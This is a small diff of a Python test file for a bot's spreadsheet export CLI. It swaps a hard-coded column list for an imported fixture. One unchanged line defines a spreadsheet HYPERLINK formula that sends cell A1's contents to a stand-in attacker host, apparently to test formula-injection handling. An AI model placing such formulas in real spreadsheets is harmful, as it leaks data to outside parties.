@@ -12,21 +12,9 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from bot.cli.main import main
+from tests.support.analysis_fixtures import EXPORT_COLUMNS
 
-ITEMS = ["U1", "U2", "U3", "U4", "U5", "U6", "U7", "U8", "P1", "P2", "P3", "P4", "P5"]
-COLUMNS = [
-    "period",
-    "service",
-    "submitted_at",
-    "name",
-    "age",
-    "gender",
-    "education",
-    "occupation",
-    "institution",
-    *ITEMS,
-    "suggestion",
-]
+COLUMNS = list(EXPORT_COLUMNS)
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 
 
